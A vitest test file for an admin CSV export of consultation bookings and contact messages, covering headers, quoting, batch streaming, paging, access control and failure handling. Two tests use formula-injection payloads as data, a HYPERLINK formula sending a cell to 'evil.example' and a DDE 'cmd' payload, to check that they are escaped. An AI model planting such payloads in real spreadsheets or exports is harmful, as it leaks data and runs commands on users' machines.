import { desc, sql } from "drizzle-orm";
import type { Logger } from "pino";
import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
import { loader as exportLoader } from "~/routes/admin.export";
import type { Database } from "~/server/db/client.server";
import { createSlot, insertBooking, insertContactMessage } from "~/server/seed/factories.server";
import { auditLog, consultationBookings, contactMessages, emailOutbox } from "~/server/db/schema.server";
import { EXPORT_BATCH_SIZE, exportBookingsCsv, exportMessagesCsv } from "~/server/services/exports.server";
import { createAdminTestbed, getRequest, type AdminTestbed, type TestContext, routeArgs, markSecondFactor } from "./app-context";
import { testDriver, type TestDatabase } from "./test-database";
import { english } from "../support/english";

let bed: AdminTestbed, t: TestDatabase, context: TestContext;
beforeAll(async () => {
  ({ t, context } = bed = await createAdminTestbed("export-"));
});
afterAll(() => bed?.destroy());
beforeEach(async () => {
  // The admin has proved a second factor just now: exports need one (decision 058; tested in step-up-over-http.test.ts).
  await markSecondFactor(t.db, bed.admin.cookie);
  await t.db.delete(contactMessages);
  await t.db.delete(emailOutbox);
  await t.db.delete(auditLog);
  await t.db.delete(consultationBookings);
});

const BOM = [0xef, 0xbb, 0xbf];
const BOOKING_HEADER = [
  "Created at",
  "First name",
  "Last name",
  "E-mail",
  "Phone",
  "Investment amount",
  "Type",
  "Status",
  "Slot date",
  "Slot start",
  "Slot end",
  "Preferred time",
  "Message",
  "Reference",
];
const MESSAGE_HEADER = [
  "Created at",
  "First name",
  "Last name",
  "E-mail",
  "Investment amount",
  "Message",
  "Read",
  "Booking type",
  "Booking status",
  "Phone",
  "Preferred time",
];

/** GET /admin/export/<kind> through the route's loader. */
async function get(kind: string, search = "", cookie?: string): Promise<Response> {
  const result = await exportLoader(routeArgs(getRequest(`/admin/export/${kind}${search}`, { cookie }), context, { kind }));
  expect(result).toBeInstanceOf(Response);
  return result as Response;
}

/** The body's bytes, read to the end, and its text with the BOM kept (Response.text() would drop it). */
async function body(response: Response): Promise<{ bytes: Uint8Array; text: string }> {
  const bytes = new Uint8Array(await response.arrayBuffer());
  return { bytes, text: new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes) };
}

/** A small RFC 4180 reader: quoted cells may hold commas, doubled quotes and line breaks; records end with CRLF. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") {
      record.push(cell);
      cell = "";
    } else if (c === "\r" && text[i + 1] === "\n") {
      record.push(cell);
      records.push(record);
      record = [];
      cell = "";
      i++;
    } else cell += c;
  }
  if (cell !== "" || record.length > 0) throw new Error(`the CSV does not end with CRLF: ${JSON.stringify(text.slice(-40))}`);
  return records;
}

/** The download as records: BOM checked and stripped, header row first. */
async function readCsv(response: Response): Promise<string[][]> {
  const { bytes, text } = await body(response);
  expect([...bytes.slice(0, 3)]).toEqual(BOM);
  return parseCsv(text.slice(1));
}

const silentLog = () => ({ info: vi.fn(), error: vi.fn(), warn: vi.fn() });

describe(`GET /admin/export/bookings.csv (${testDriver})`, () => {
  it("gives an admin the filtered bookings as a dated CSV download, BOM and header first", async () => {
    const slot = await createSlot(t.db, { date: "2031-03-04", startTime: "09:00:00", endTime: "09:30:00" });
    await insertBooking(t.db, {
      reference: "TA-7K3F9Q",
      firstName: "Layla",
      lastName: "Hassan",
      email: "layla@example.com",
      phone: "0770 000 0000",
      investmentAmount: "$750,000",
      bookingType: "site_visit",
      status: "cancelled",
      availabilitySlotId: slot.id,
      message: "Please call me.",
      createdAt: new Date("2031-03-01T10:00:00.000Z"),
    });
    await insertBooking(t.db, { email: "pending@example.com", status: "pending" });
    await insertBooking(t.db, { email: "confirmed@example.com", status: "confirmed" });

    const response = await get("bookings.csv", "?status=cancelled", bed.admin.cookie);
    expect(response.status).toBe(200);
    expect(response.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("Content-Disposition")).toMatch(/^attachment; filename="bookings-cancelled-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(response.headers.get("Cache-Control")).toBe("private, no-store");
    expect(response.headers.get("X-Content-Type-Options")).toBe("nosniff");
    expect(await readCsv(response)).toEqual([
      BOOKING_HEADER,
      [
        "2031-03-01T10:00:00.000Z",
        "Layla",
        "Hassan",
        "layla@example.com",
        "0770 000 0000",
        "$750,000",
        "Site Visit Discussion",
        "Cancelled",
        "2031-03-04",
        "09:00",
        "09:30",
        "",
        "Please call me.",
        "TA-7K3F9Q",
      ],
    ]);

    const all = await readCsv(await get("bookings.csv", "", bed.admin.cookie));
    expect(all.slice(1).map((r) => r[3]).sort()).toEqual(["confirmed@example.com", "layla@example.com", "pending@example.com"]);
    const unfiltered = await get("bookings.csv", "?status=archived", bed.admin.cookie);
    expect(unfiltered.headers.get("Content-Disposition")).toMatch(/^attachment; filename="bookings-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(await readCsv(unfiltered)).toHaveLength(4);
  });

  it("sends just the BOM and the header when nothing matches", async () => {
    const { text } = await body(await get("bookings.csv", "?status=completed", bed.admin.cookie));
    expect(text).toBe(`\uFEFF${BOOKING_HEADER.join(",")}\r\n`);
  });

  it("quotes a cell a spreadsheet would run as a formula", async () => {
    await insertBooking(t.db, {
      firstName: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
      lastName: "@SUM(1+1)",
      phone: "+1 555 0100",
      investmentAmount: "-2",
      preferredTime: "\t=1+1",
      message: "+1",
    });
    const [, row] = await readCsv(await get("bookings.csv", "", bed.admin.cookie));
    expect(row![1]).toBe(`'=HYPERLINK("http://evil.example/?leak="&A1,"Click")`);
    expect(row![2]).toBe("'@SUM(1+1)");
    expect(row![4]).toBe("'+1 555 0100");
    expect(row![5]).toBe("'-2");
    expect(row![11]).toBe("'\t=1+1");
    expect(row![12]).toBe("'+1");
  });

  it("round-trips commas, quotes, line breaks and non-Latin names", async () => {
    const message = 'He said "call me", then:\nline two\r\nline three, done';
    await insertBooking(t.db, { firstName: "ليلى", lastName: "Zoë, Jr.", message, investmentAmount: "$1,000,000" });
    const response = await get("bookings.csv", "", bed.admin.cookie);
    const { text } = await body(response.clone());
    expect(text).toContain(`"He said ""call me"", then:\nline two\r\nline three, done"`);
    const [, row] = await readCsv(response);
    expect(row!.slice(1, 3)).toEqual(["ليلى", "Zoë, Jr."]);
    expect(row![5]).toBe("$1,000,000");
    expect(row![12]).toBe(message);
  });

  it("streams more rows than one batch, all of them, newest first", async () => {
    const total = EXPORT_BATCH_SIZE * 2 + 7;
    const base = Date.UTC(2031, 0, 1);
    // Groups of three share a created_at, so the id breaks ties (across batch edges too).
    await t.db.insert(consultationBookings).values(
      // References of their own: the column's default draws at random, and among thousands
      // of rows two draws can clash (it did once in CI), which the default does not draw again.
      Array.from({ length: total }, (_, i) => ({
        reference: `GUEST-${i}`,
        firstName: "Guest",
        lastName: String(i),
        email: `guest${i}@example.com`,
        investmentAmount: "$1",
        message: "Bulk",
        createdAt: new Date(base + Math.floor(i / 3) * 1000),
      })),
    );
    const expected = await t.db.select({ email: consultationBookings.email }).from(consultationBookings).orderBy(desc(consultationBookings.createdAt), desc(consultationBookings.id));
    const records = await readCsv(await get("bookings.csv", "", bed.admin.cookie));
    expect(records[0]).toEqual(BOOKING_HEADER);
    expect(records.slice(1).map((r) => r[3])).toEqual(expected.map((r) => r.email));
    expect(new Set(records.slice(1).map((r) => r[3])).size).toBe(total);
  });

  it("pages by the exact created_at, microseconds included, and by id on a tie", async () => {
    // Timestamps a JavaScript Date cannot hold: a cursor rounded to milliseconds would skip rows.
    const stamps = ["2031-05-01 10:00:00.123456+00", "2031-05-01 10:00:00.123400+00", "2031-05-01 10:00:00.1234+00", "2031-05-01 10:00:00.123+00", "2031-05-01 10:00:00.122999+00"];
    for (const [i, stamp] of stamps.entries()) {
      for (let copy = 0; copy < 2; copy++) {
        await t.db.insert(consultationBookings).values({
          firstName: "Micro",
          lastName: `${i}-${copy}`,
          email: `micro${i}-${copy}@example.com`,
          investmentAmount: "$1",
          message: "Precise",
          createdAt: sql`${stamp}::timestamptz` as unknown as Date,
        });
      }
    }
    const expected = await t.db.select({ email: consultationBookings.email }).from(consultationBookings).orderBy(desc(consultationBookings.createdAt), desc(consultationBookings.id));
    for (const batchSize of [1, 2, 3]) {
      const stream = await exportBookingsCsv({ ...context, log: silentLog() as unknown as Logger }, bed.admin.actor, { batchSize });
      const records = await readCsv(new Response(stream));
      expect(records.slice(1).map((r) => r[3]), `batches of ${batchSize}`).toEqual(expected.map((r) => r.email));
    }
  });

  it("refuses a visitor and an investor with 403 and no data", async () => {
    await insertBooking(t.db, { email: "secret@example.com" });
    for (const cookie of [undefined, bed.investor.cookie]) {
      const response = await get("bookings.csv", "", cookie);
      expect(response.status).toBe(403);
      expect(response.headers.get("Location")).toBeNull();
      expect(response.headers.get("Content-Type")).toBe("text/plain; charset=utf-8");
      expect(response.headers.get("Content-Disposition")).toBeNull();
      const { text } = await body(response);
      expect(text).not.toContain("secret@example.com");
    }
    for (const actor of [{ kind: "anonymous" as const }, { kind: "user" as const, userId: "someone", isAdmin: false }]) {
      const quiet = { ...context, log: silentLog() as unknown as Logger };
      await expect(exportBookingsCsv(quiet, actor, {})).rejects.toMatchObject({ code: "FORBIDDEN" });
      await expect(exportMessagesCsv(quiet, actor, { q: "" })).rejects.toMatchObject({ code: "FORBIDDEN" });
    }
  });

  it("answers 404 to an unknown export", async () => {
    for (const kind of ["users.csv", "bookings", "bookings.json", "messages.CSV"]) {
      const response = await get(kind, "", bed.admin.cookie);
      expect(response.status, kind).toBe(404);
      expect(response.headers.get("Content-Disposition")).toBeNull();
    }
  });

  it("answers 500 when the first read fails, and aborts the download, logged, when a later one does", async () => {
    await t.db.insert(consultationBookings).values(
      Array.from({ length: 5 }, (_, i) => ({ firstName: "F", lastName: String(i), email: `f${i}@example.com`, investmentAmount: "$1", message: "x" })),
    );
    /** The database, with the export's reads (they select the cursor, `at`) failing from the `failFrom`th on. */
    const failing = (failFrom: number) => {
      let reads = 0;
      return new Proxy(t.db, {
        get(target, property, receiver) {
          const value = Reflect.get(target, property, receiver) as unknown;
          if (property !== "select" || typeof value !== "function") return value;
          return (fields?: Record<string, unknown>) => {
            if (fields && "at" in fields && ++reads >= failFrom) throw new Error("connection lost");
            return (value as (fields?: Record<string, unknown>) => unknown).call(receiver, fields);
          };
        },
      }) as Database;
    };
    const log = silentLog();
    await expect(exportBookingsCsv({ ...context, db: failing(1), log: log as unknown as Logger }, bed.admin.actor, { batchSize: 2 })).rejects.toThrow("connection lost");

    const stream = await exportBookingsCsv({ ...context, db: failing(2), log: log as unknown as Logger }, bed.admin.actor, { batchSize: 2 });
    await expect(new Response(stream).text()).rejects.toThrow();
    await vi.waitFor(() => expect(log.error).toHaveBeenCalledWith(expect.objectContaining({ export: "bookings" }), expect.stringContaining("aborted")));

    const routeLog = silentLog();
    const failingContext = { ...context, db: failing(1), log: routeLog as unknown as Logger };
    const response = (await exportLoader(
      routeArgs(getRequest("/admin/export/bookings.csv", { cookie: bed.admin.cookie }), failingContext, { kind: "bookings.csv" }),
    )) as Response;
    expect(response.status).toBe(500);
    expect(response.headers.get("Content-Disposition")).toBeNull();
    expect(await response.text()).toBe(english("admin.export.failed.bookings"));
    expect(routeLog.error).toHaveBeenCalledOnce();
  });

  it("stops reading batches when the download is cancelled", async () => {
    const total = 3000;
    await t.db.insert(consultationBookings).values(
      Array.from({ length: total }, (_, i) => ({ reference: `CANCEL-${i}`, firstName: "C", lastName: String(i), email: `c${i}@example.com`, investmentAmount: "$1", message: "x" })),
    );
    let selects = 0;
    const counting = new Proxy(t.db, {
      get(target, property, receiver) {
        if (property === "select") selects++;
        return Reflect.get(target, property, receiver) as unknown;
      },
    }) as Database;
    const batchSize = 50;
    const log = silentLog();
    const stream = await exportBookingsCsv({ ...context, db: counting, log: log as unknown as Logger }, bed.admin.actor, { batchSize });
    const reader = stream.getReader();
    // Take a few batches' worth, then go away, as a browser whose download is cancelled does.
    const decoder = new TextDecoder();
    let lines = 0;
    while (lines < batchSize * 3) {
      const { value, done } = await reader.read();
      if (done) break;
      lines += decoder.decode(value, { stream: true }).split("\r\n").length - 1;
    }
    expect(selects).toBeGreaterThanOrEqual(3);
    await reader.cancel();
    await vi.waitFor(() => expect(log.info).toHaveBeenCalledWith({ export: "bookings" }, "export: the download was cancelled"));
    const after = selects;
    await new Promise((resolve) => setTimeout(resolve, 100));
    expect(selects).toBe(after);
    expect(selects).toBeLessThan(total / batchSize);
    expect(log.error).not.toHaveBeenCalled();
  });
});

describe(`GET /admin/export/messages.csv (${testDriver})`, () => {
  const insertMessage = (overrides: Parameters<typeof insertContactMessage>[1] = {}) => insertContactMessage(t.db, overrides);

  it("gives an admin the messages of the current search, with the linked booking", async () => {
    const booking = await insertBooking(t.db, { phone: "+964 770 000 0000", preferredTime: "Mornings", bookingType: "site_visit", status: "confirmed" });
    await insertMessage({
      firstName: "Zainab",
      email: "zainab@example.com",
      isRead: true,
      consultationBookingId: booking.id,
      createdAt: new Date("2031-02-02T08:30:00.000Z"),
    });
    await insertMessage({ firstName: "Karim", email: "karim@example.com", message: "Zainab referred me." });
    await insertMessage({ firstName: "Other", email: "other@example.com" });

    const response = await get("messages.csv", "?q=ZAINAB", bed.admin.cookie);
    expect(response.status).toBe(200);
    expect(response.headers.get("Content-Disposition")).toMatch(/^attachment; filename="messages-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(response.headers.get("Cache-Control")).toBe("private, no-store");
    const records = await readCsv(response);
    expect(records[0]).toEqual(MESSAGE_HEADER);
    expect(records.slice(1).map((r) => r[3]).sort()).toEqual(["karim@example.com", "zainab@example.com"]);
    expect(records.find((r) => r[3] === "zainab@example.com")).toEqual([
      "2031-02-02T08:30:00.000Z",
      "Zainab",
      "Saleh",
      "zainab@example.com",
      "$600,000",
      "Interested in Jordan.",
      "yes",
      "Site Visit Discussion",
      "Confirmed",
      "'+964 770 000 0000",
      "Mornings",
    ]);
    expect(records.find((r) => r[3] === "karim@example.com")!.slice(6)).toEqual(["no", "", "", "", ""]);

    expect(await readCsv(await get("messages.csv", "", bed.admin.cookie))).toHaveLength(4);
    // The search's wildcards match themselves, as on the tab.
    expect(await readCsv(await get("messages.csv", "?q=%25", bed.admin.cookie))).toHaveLength(1);
  });

  it("quotes formula cells and keeps multi-line messages intact", async () => {
    const message = '=cmd|" /C calc"!A0\nsecond, "line"';
    await insertMessage({ firstName: "-Eve", lastName: "@Mallory", message });
    const [, row] = await readCsv(await get("messages.csv", "", bed.admin.cookie));
    expect(row!.slice(1, 3)).toEqual(["'-Eve", "'@Mallory"]);
    expect(row![5]).toBe(`'${message}`);
  });

  it("streams more messages than one batch, newest first", async () => {
    const total = EXPORT_BATCH_SIZE + 3;
    const base = Date.UTC(2031, 6, 1);
    await t.db.insert(contactMessages).values(
      Array.from({ length: total }, (_, i) => ({
        firstName: "Bulk",
        lastName: String(i),
        email: `bulk${i}@example.com`,
        investmentAmount: "$1",
        message: "Bulk",
        createdAt: new Date(base + Math.floor(i / 2) * 1000),
      })),
    );
    const expected = await t.db.select({ email: contactMessages.email }).from(contactMessages).orderBy(desc(contactMessages.createdAt), desc(contactMessages.id));
    const records = await readCsv(await get("messages.csv", "?q=bulk", bed.admin.cookie));
    expect(records.slice(1).map((r) => r[3])).toEqual(expected.map((r) => r.email));
  });

  it("refuses a visitor and an investor with 403 and no data", async () => {
    await insertMessage({ email: "private@example.com" });
    for (const cookie of [undefined, bed.investor.cookie]) {
      const response = await get("messages.csv", "", cookie);
      expect(response.status).toBe(403);
      expect(response.headers.get("Location")).toBeNull();
      expect((await body(response)).text).not.toContain("private@example.com");
    }
  });
});
